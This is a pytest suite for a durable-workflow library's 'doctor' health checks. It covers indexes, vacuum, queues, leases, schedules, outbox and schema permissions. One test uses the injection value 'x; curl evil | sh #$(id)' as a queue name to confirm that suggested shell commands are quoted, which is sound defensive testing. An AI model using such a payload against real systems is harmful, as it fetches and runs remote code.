"""`doctor`: each finding, with its advice."""

from __future__ import annotations

import asyncio
import shlex
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

import asyncpg
import msgspec
import pytest

from gen_durable import AsyncClient, Finding, RateLimit, Schedule, Spec, Worker
from gen_durable._db import doctor, workers
from gen_durable._db.pool import Database
from tests.operations.rows import put
from tests.support.machines import Plain
from tests.support.settings import AN_HOUR, CALM
from tests.support.worker_rows import WORKER_ROW


def codes(findings: Sequence[Finding]) -> list[str]:
    for finding in findings:
        assert finding.what
        assert finding.fix
        assert str(finding).startswith(f"{finding.severity}: ")
        msgspec.json.encode(finding)
    return [finding.code for finding in findings]


@pytest.fixture(autouse=True)
async def _closed(db: Any) -> None:
    """Forbid other roles to create in schema public, as PostgreSQL 15 does by default."""
    await db.execute("revoke create on schema public from public")


@pytest.mark.clause("OPS-9")
async def test_healthy_database_has_no_findings(db: Any, client: Any, durable_dsn: str) -> None:
    async with Worker([Plain], dsn=durable_dsn, settings=CALM) as worker:
        await worker.wait(await worker.insert(Plain, 1))
        assert codes(await client.doctor()) == []
    assert codes(await client.doctor()) == []


@pytest.mark.clause("OPS-9")
async def test_missing_or_invalid_indexes(db: Any, client: Any) -> None:
    await db.execute("drop index gen_durable.gen_durable_deadline, gen_durable.signals_dedup")
    await db.execute(
        "update pg_index set indisvalid = false where indexrelid = 'gen_durable.executions_aborted'::regclass"
    )
    findings = await client.doctor()
    assert codes(findings) == ["index.missing", "index.missing", "index.invalid"]
    deadline, dedup, aborted = findings
    assert deadline.facts == {"index": "gen_durable_deadline"}
    assert aborted.fix.startswith(
        'drop it and build it again: drop index "gen_durable".executions_aborted; create'
    )
    for finding in (deadline, dedup):
        await db.execute(finding.fix.removeprefix("build it: "))
    await db.execute(aborted.fix.split(": ", 1)[1].split(";")[0])
    await db.execute(aborted.fix.split("; ", 1)[1])
    assert codes(await client.doctor()) == []


@pytest.mark.clause("OPS-9")
async def test_tables_with_many_dead_tuples(db: Any, client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(doctor, "_MIN_DEAD_ROWS", 100)
    await db.execute("alter table gen_durable.audit_events set (autovacuum_enabled = off)")
    await db.execute(
        "insert into gen_durable.audit_events (instance_id, event) select n, 'x' from generate_series(1, 200) n"
    )
    await db.execute("delete from gen_durable.audit_events")
    await db.execute(
        "update gen_durable.migrations set applied_at = now()"
    )  # the database may be a copy of an old one
    await _flushed(db)
    assert codes(await client.doctor()) == [], "autovacuum is not overdue in a schema of a few seconds"
    monkeypatch.setattr(doctor, "_LATE_VACUUM", timedelta(0))
    (finding,) = await client.doctor()
    assert (finding.code, finding.facts["name"]) == ("table.bloat", "audit_events")
    await db.execute(finding.fix.split(";")[0])
    await _flushed(db)
    assert codes(await client.doctor()) == []


async def _flushed(db: Any) -> None:
    if await db.fetchval("select exists (select from pg_proc where proname = 'pg_stat_force_next_flush')"):
        await db.execute("select pg_stat_force_next_flush()")
    else:
        # PostgreSQL 14: a session reports statistics at most twice a second, and the collector writes them later.
        await asyncio.sleep(0.6)
        await db.execute("select 1")
        await asyncio.sleep(1.5)


@pytest.mark.clause("OPS-9")
async def test_long_open_transactions(
    db: Any, client: Any, direct_dsn: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(doctor, "_LONG_TRANSACTION", timedelta(0))
    other = await asyncpg.connect(direct_dsn)
    await other.execute("begin; select 1 from gen_durable.gen_durable")
    findings = [each for each in await client.doctor() if each.facts["who"] == str(other.get_server_pid())]
    (finding,) = findings
    assert (finding.code, finding.facts["state"]) == ("transaction.long", "idle in transaction")
    assert finding.fix.endswith(f"select pg_terminate_backend({other.get_server_pid()})")
    await other.close()


@pytest.mark.clause("OPS-9")
async def test_settings_lost_by_a_pooler(durable_dsn: str, direct_dsn: str) -> None:
    connection = await asyncpg.connect(direct_dsn)  # without the settings of our own connections
    async with AsyncClient(durable_dsn) as client:
        only: Any = _Only(connection)
        client._database._pool, pool = only, client._database._pool
        (finding,) = await client.doctor()
        client._database._pool = pool
    assert finding.code == "pooler.session"
    assert finding.facts["plan_cache_mode"] == "auto"
    assert "GEN_DURABLE_POOLER=transaction" in finding.fix
    await connection.close()


class _Only:
    """A pool of one connection."""

    def __init__(self, connection: Any) -> None:
        self._connection = connection

    async def acquire(self) -> Any:
        return self._connection

    async def release(self, conn: Any, *, is_reusable: bool) -> None: ...


@pytest.mark.clause("OPS-9")
async def test_clock_skew(client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    class Slow(datetime):
        @classmethod
        def now(cls, tz: Any = None) -> Any:
            return datetime.now(UTC) - timedelta(minutes=1)

    monkeypatch.setattr(doctor, "datetime", Slow)
    (finding,) = await client.doctor()
    assert finding.code == "clock.skew"
    assert "ahead of this host's" in finding.what


@pytest.mark.clause("OPS-9")
async def test_expired_leases_without_a_reaper(db: Any, client: Any) -> None:
    fresh = "=now() - interval '30 s'"
    await put(db, "executing", lease_expires_at=fresh, locked_by="w")
    assert codes(await client.doctor()) == []
    id = await put(db, "executing", lease_expires_at="=now() - interval '1 h'", locked_by="w9")
    (finding,) = await client.doctor()
    assert (finding.code, finding.facts["ids"], finding.facts["workers"]) == ("lease.stuck", [id], ["w9"])


@pytest.mark.clause("OPS-9")
async def test_due_work_without_a_worker(db: Any, database: Database, client: Any) -> None:
    await database.run(workers.announce(WORKER_ROW, AN_HOUR))
    await put(db)
    assert codes(await client.doctor()) == []
    await put(db, queue="lost")
    await put(db, queue="lost", fsm="B")
    await put(db, queue="later", eligible_at="=now() + interval '1 h'")
    await put(db, fsm_version=2, eligible_at="=now() + interval '1 h'")
    await put(db, queue="shut")
    await client.pause_queue("shut")
    notice, unserved, unknown = await client.doctor()
    assert (notice.code, notice.severity, notice.facts) == (
        "queue.paused",
        "notice",
        {"queue": "shut", "due": 1},
    )
    assert (unserved.code, unserved.facts) == ("queue.unserved", {"queue": "lost", "due": 2})
    assert (unknown.code, unknown.facts) == (
        "machine.unknown",
        {"queue": "default", "machine": "A", "version": 2, "count": 1},
    )


@pytest.mark.clause("OPS-9")
async def test_parked_instances_of_an_unknown_version(db: Any, database: Database, client: Any) -> None:
    await put(db, "awaiting_signal", fsm_version=2, rest_step="s", awaits="{go}")
    assert codes(await client.doctor()) == [], "no worker is live"
    await database.run(workers.announce(WORKER_ROW, AN_HOUR))
    await put(db, "awaiting_children", fsm_version=2, step="t", rest_step="t", children_pending=1)
    await put(db, fsm_version=2)
    await put(db, "awaiting_signal", rest_step="s", awaits="{go}")
    await put(db, "awaiting_signal", fsm_version=2, rest_step="s", awaits="{go}", queue="elsewhere")
    await put(db, "done", fsm_version=3, rest_step="s")
    (unknown,) = await client.doctor()
    assert (unknown.code, unknown.facts) == (
        "machine.unknown",
        {"queue": "default", "machine": "A", "version": 2, "count": 3},
    )
    assert unknown.what == "no live worker of queue default runs A version 2; 3 waiting instances"


@pytest.mark.clause("OPS-9")
async def test_queues_at_capacity(db: Any, database: Database, client: Any) -> None:
    one = msgspec.structs.replace(WORKER_ROW, capacities=[1])
    await database.run(workers.announce(one, AN_HOUR))
    await put(db, eligible_at="=now() - interval '6 min'")
    assert codes(await client.doctor()) == []
    await put(db, "executing", locked_by="w", leased_at="=now()")
    (busy,) = await client.doctor()
    assert (busy.code, busy.severity) == ("queue.busy", "notice")
    assert {name: busy.facts[name] for name in ("queue", "workers", "running", "capacity")} == {
        "queue": "default",
        "workers": 1,
        "running": 1,
        "capacity": 1,
    }
    await db.execute("update gen_durable.gen_durable set eligible_at = now() where status = 'runnable'")
    assert codes(await client.doctor()) == []
    await db.execute("update gen_durable.gen_durable set eligible_at = now() - interval '6 min'")
    await client.set_queue("default", concurrency=2)
    assert codes(await client.doctor()) == []
    await client.set_queue("default", concurrency=None)
    shared = msgspec.structs.replace(WORKER_ROW, name="w2", capacity=1)
    await database.run(workers.announce(shared, AN_HOUR))
    assert codes(await client.doctor()) == []
    await put(db, "executing", locked_by="w2", queue="elsewhere", leased_at="=now()")
    assert codes(await client.doctor()) == ["queue.busy"]
    await client.pause_queue("default")
    assert codes(await client.doctor()) == ["queue.paused"]
    await client.resume_queue("default")
    prefixed = msgspec.structs.replace(
        WORKER_ROW, name="w3", queues=[], capacities=[], prefixes=["A"], prefix_capacities=[1]
    )
    await database.run(workers.announce(prefixed, AN_HOUR))
    assert codes(await client.doctor()) == []


@pytest.mark.clause("OPS-9", "VER-8")
async def test_steps_that_no_live_worker_has(db: Any, database: Database, client: Any) -> None:
    row = msgspec.structs.replace(
        WORKER_ROW, fsms=["A", "B"], fsm_versions=[1, 2], fsm_steps='[["s", "old"], ["t"]]'
    )
    await database.run(workers.announce(row, AN_HOUR))
    await database.run(
        workers.announce(msgspec.structs.replace(row, name="v", fsm_steps='[["u"], []]'), AN_HOUR)
    )
    for step in ("s", "old", "u"):
        await put(db, step=step)
    await put(db, "done", step="gone", rest_step="gone", finished_at="=now()")
    await put(db, fsm="B", fsm_version=2, step="t")
    # Different steps are a finding of their own.
    assert set(codes(await client.doctor())) == {"machine.steps_differ"}
    await put(db, step="gone", eligible_at="=now() + interval '1 h'")
    await put(db, step="gone", concurrency_key="k", eligible_at="=now() + interval '1 h'")
    await put(db, "awaiting_signal", fsm="B", fsm_version=2, step="s", rest_step="s", awaits="{go}")
    first, second, *_ = await client.doctor()
    assert (first.code, first.severity, first.facts) == (
        "step.unknown",
        "problem",
        {"machine": "A", "version": 1, "step": "gone", "count": 2, "steps": ["old", "s", "u"]},
    )
    assert first.what == (
        "no live worker has step gone of A version 1; 2 waiting instances; live workers have old, s, u"
    )
    assert second.facts == {"machine": "B", "version": 2, "step": "s", "count": 1, "steps": ["t"]}


async def test_names_in_suggested_commands_are_shell_quoted(db: Any, client: Any) -> None:
    """Producers choose the names of queues and limits."""
    name = "x; curl evil | sh #$(id)"
    await put(db, queue=name)
    await put(db, queue="shut;")
    await client.pause_queue("shut;")
    await put(db, queue=name, rate_limit=name)
    commands = [
        finding.fix.partition("gen-durable ")[2].partition("; or ")[0] for finding in await client.doctor()
    ]
    assert sorted(map(shlex.split, commands)) == [
        ["limits", "set", f"{name}=100/1m"],
        ["queues", "resume", "shut;"],
        ["worker", "app.py", "--queue", f"{name}=10"],
    ]


async def test_many_queues_do_not_hide_other_findings(db: Any, client: Any) -> None:
    """Producers choose the names of queues."""
    await db.execute(
        "select gen_durable.insert_all(jsonb_agg(jsonb_build_object('fsm', 'A', 'step', 's', 'queue', 'q' || n)))"
        " from generate_series(1, 25) n"
    )
    await put(db, rate_limit="crm")
    findings = await client.doctor()
    unserved = [finding for finding in findings if finding.code == "queue.unserved"]
    assert (len(unserved), unserved[-1].facts) == (21, {"more": 6})
    assert unserved[-1].what == "6 more findings of this kind"
    assert codes(findings)[-1] == "limit.missing"


@pytest.mark.clause("OPS-9")
async def test_free_keys_with_gated_rows(db: Any, database: Database, client: Any) -> None:
    await database.run(workers.announce(WORKER_ROW, AN_HOUR))
    await put(db, concurrency_key="k", gated=True)
    (finding,) = await client.doctor()
    assert (finding.code, finding.facts) == ("key.stuck", {"key": "k"})


@pytest.mark.clause("OPS-9")
async def test_unknown_rate_limits(db: Any, database: Database, client: Any) -> None:
    await database.run(workers.announce(WORKER_ROW, AN_HOUR))
    await client.set_limit(RateLimit("crm", 100, per=AN_HOUR))
    later = "=now() + interval '1 h'"
    await put(db, rate_limit="crm")
    await put(db, rate_limit="crm:7")
    await put(db, "done", rate_limit="old")
    assert codes(await client.doctor()) == []
    first = await put(db, rate_limit="mail:7", eligible_at=later)
    second = await put(db, rate_limit="mail:8")
    third = await put(db, rate_limit="zoo")
    mail, zoo = await client.doctor()
    assert codes([mail, zoo]) == ["limit.missing"] * 2
    assert mail.facts == {"limit": "mail", "count": 2, "ids": [first, second]}
    assert zoo.facts == {"limit": "zoo", "count": 1, "ids": [third]}
    assert "gen-durable limits set zoo=" in zoo.fix
    for name in ("mail", "zoo"):
        await client.set_limit(RateLimit(name, 100, per=AN_HOUR))
    assert codes(await client.doctor()) == []


@pytest.mark.clause("OPS-9")
async def test_overdue_schedules(db: Any, client: Any) -> None:
    for name in ("fresh", "late", "later", "paused", "over"):
        await client.put_schedule(Schedule(name, Spec(Plain, 1), every=AN_HOUR))
    assert codes(await client.doctor()) == []
    await client.pause_schedule("paused")
    await db.execute(
        """update gen_durable.schedules s set next_at = now() - given.ago
             from (values ('fresh', interval '20 s'), ('late', '2 h'), ('later', '2 min'), ('paused', '1 h'), ('over', null))
                  as given (name, ago) where given.name = s.name"""
    )
    (finding,) = await client.doctor()
    assert (finding.code, finding.facts["count"]) == ("schedule.overdue", 2)
    assert finding.facts["names"] == ["late", "later"]
    assert finding.what.endswith("no worker fires them: late, later")


@pytest.mark.clause("OPS-9")
async def test_schedules_that_cannot_insert(db: Any, client: Any) -> None:
    for name in ("broken", "busy", "fine", "paused"):
        await client.put_schedule(Schedule(name, Spec(Plain, 1), every=AN_HOUR))
    await client.pause_schedule("paused")
    await db.execute(
        """update gen_durable.schedules s set last_error = given.error
             from (values ('broken', 'there is no such machine'), ('busy', 'an instance of it was still live'),
                          ('paused', 'there is no such machine')) as given (name, error) where given.name = s.name"""
    )
    (finding,) = await client.doctor()
    assert (finding.code, finding.severity) == ("schedule.failing", "problem")
    assert finding.what == "schedule broken inserted nothing at its last fire time: there is no such machine"
    assert finding.fix.endswith("gen-durable schedules rm broken")


@pytest.mark.clause("OPS-9")
async def test_unpublished_events(db: Any, client: Any) -> None:
    await _emitted(db, "fresh", made="1 min", due="1 min")
    await _emitted(db, "replayed", made="1 h", due="0 s")
    await _emitted(db, "out", made="1 h", due="1 h", published_at="now()")
    assert codes(await client.doctor()) == []
    await _emitted(db, "ops", made="2 h", due="2 h")
    await _emitted(db, "ops", made="1 h", due="1 h")
    await _emitted(db, "ops", made="10 s", due="10 s")
    await _emitted(db, "web", made="1 h", due="-1 min", attempts="3", last_error="'503'")
    unserved, failing = await client.doctor()
    assert codes([unserved, failing]) == ["outbox.stuck"] * 2
    assert (unserved.facts["sink"], unserved.facts["count"], unserved.facts["last_error"]) == ("ops", 2, None)
    ago = datetime.now(UTC) - unserved.facts["since"]
    assert timedelta(hours=1.9) < ago < timedelta(hours=2.1)
    assert (failing.facts["sink"], failing.facts["count"]) == ("web", 1)
    assert failing.what.endswith("last error: 503")
    left = failing.facts["expires_at"] - datetime.now(UTC)
    assert timedelta(days=29.9) < left < timedelta(days=30)
    assert failing.fix.endswith("gen-durable outbox ls --sink web --state pending")


async def _emitted(db: Any, sink: str, *, made: str, due: str, **columns: str) -> None:
    """Insert an event, with its age and how long it has been due."""
    names = "".join(f", {name}" for name in columns)
    values = "".join(f", {value}" for value in columns.values())
    await db.execute(
        f"""insert into gen_durable.outbox (instance_id, step_seq, n, sink, type, subject, data, created_at, next_at{names})
            values (1, 1, 1, '{sink}', 't', 's', '1', now() - interval '{made}', now() - interval '{due}'{values})"""
    )


@pytest.mark.clause("OPS-9")
async def test_dead_letters_are_a_notice_per_sink(
    db: Any, client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    for sink, since, error in (("ops", "2 h", "old"), ("ops", "1 h", "new"), ("web", "1 h", "422")):
        await _emitted(
            db, sink, made="3 h", due="3 h", dead_at=f"now() - interval '{since}'", last_error=f"'{error}'"
        )
    ops, web = await client.doctor()
    assert (codes([ops, web]), ops.severity) == (["outbox.dead"] * 2, "notice")
    assert ops.what.startswith("2 dead letters for sink ops since ")
    assert ops.what.endswith("; last error: new")
    assert ops.facts["since"] < web.facts["since"]
    assert web.what.startswith("1 dead letter for sink web since ")
    assert web.fix.endswith("gen-durable outbox replay --dead --sink web")
    monkeypatch.setattr(doctor, "_MAX_COUNT", 2)
    (ops,) = await client.doctor()
    assert ops.what.startswith("at least 2 dead letters for sink ops")


@pytest.mark.clause("OPS-9")
async def test_counts_are_bounded(db: Any, client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(doctor, "_MAX_COUNT", 2)
    for n in range(3):
        await client.put_schedule(Schedule(f"s{n}", Spec(Plain, 1), every=AN_HOUR))
        await put(db, rate_limit=f"none:{n}", queue="later", eligible_at="=now() + interval '1 h'")
        await _emitted(db, "ops", made="1 h", due="1 h")
    await db.execute("update gen_durable.schedules set next_at = now() - interval '1 h'")
    findings = await client.doctor()
    assert codes(findings) == ["limit.missing", "schedule.overdue", "outbox.stuck"]
    assert all(finding.what.startswith("at least 2 ") for finding in findings)


@pytest.mark.clause("OPS-9")
async def test_workers_that_crashed(database: Database, client: Any) -> None:
    await database.run(workers.announce(WORKER_ROW, timedelta(0)))
    (finding,) = await client.doctor()
    assert (finding.code, finding.severity) == ("worker.silent", "notice")
    seen_at = finding.facts["seen_at"].isoformat(sep=" ", timespec="seconds")
    assert finding.what == f"worker {WORKER_ROW.name}: last heartbeat at {seen_at}, no clean shutdown"


@pytest.mark.clause("OPS-9")
async def test_schema_of_another_version(db: Any, client: Any) -> None:
    latest = await db.fetchval("delete from gen_durable.migrations returning version")
    assert latest
    (finding,) = await client.doctor()
    assert finding.code == "schema.version"
    assert finding.fix == "run `gen-durable db migrate`"
    assert doctor.outdated(99, 4).fix == "upgrade the package"


async def test_schema_owned_by_another_role_than_its_tables(db: Any, client: Any) -> None:
    role = f'own"er {await db.fetchval("select pg_backend_pid()")}'
    quoted = '"' + role.replace('"', '""') + '"'
    await db.execute(f"create role {quoted}; alter schema gen_durable owner to {quoted}")
    try:
        (finding,) = await client.doctor()
        assert (finding.code, finding.severity) == ("schema.open", "problem")
        assert finding.facts["schema_owner"] == role
        await db.execute(finding.fix)
        assert await client.doctor() == []
    finally:
        await db.execute(f"drop owned by {quoted}; drop role {quoted}")


def test_every_index_of_the_schema_is_known() -> None:
    assert len(doctor._wanted()) >= 17


async def test_schemas_writable_by_other_roles(db: Any, durable_dsn: str) -> None:
    role = f"guest_{await db.fetchval('select pg_backend_pid()')}"
    name = await db.fetchval("select current_database()")
    await db.execute(f"create role {role}; create schema shop; create schema elsewhere")
    await db.execute(
        f"grant create on schema shop, elsewhere, gen_durable to {role}; grant create on schema public to public"
    )
    try:
        async with AsyncClient(durable_dsn) as client:
            findings = await client.doctor()
            assert codes(findings) == ["schema.open", "schema.open"]
            assert [(each.facts["schema"], each.severity) for each in findings] == [
                ("gen_durable", "problem"),
                ("public", "notice"),
            ]
            for finding in findings:
                await db.execute(finding.fix)
            await db.execute(f'alter database "{name}" set search_path = "$user", shop')
            (finding,) = await client.doctor()
            assert (finding.facts, finding.severity) == ({"schema": "shop", "roles": [role]}, "notice")
            assert finding.what.startswith(f"{role} may create in schema shop, which is on the search_path")
    finally:
        await db.execute(f"drop owned by {role}; drop role {role}")


@pytest.mark.clause("OPS-9")
async def test_batch_that_no_process_runs(db: Any, client: Any) -> None:
    batch = await client.start_batch("cancel", "Plain")
    assert codes(await client.doctor()) == []
    await db.execute("update gen_durable.batches set updated_at = now() - interval '2 min'")
    (finding,) = await client.doctor()
    assert (finding.code, finding.severity) == ("batch.abandoned", "notice")
    assert finding.what.startswith(
        "batch 1 (cancel, 0 instances) is not finished, and no process has run it since 2"
    )
    assert finding.fix == "continue it: gen-durable batches run 1; or end it: gen-durable batches stop 1"
    await db.execute("update gen_durable.batches set lease_expires_at = now() + interval '1 min'")
    assert codes(await client.doctor()) == []
    await client.stop_batch(batch)
    await db.execute("update gen_durable.batches set updated_at = now() - interval '2 min'")
    assert codes(await client.doctor()) == []
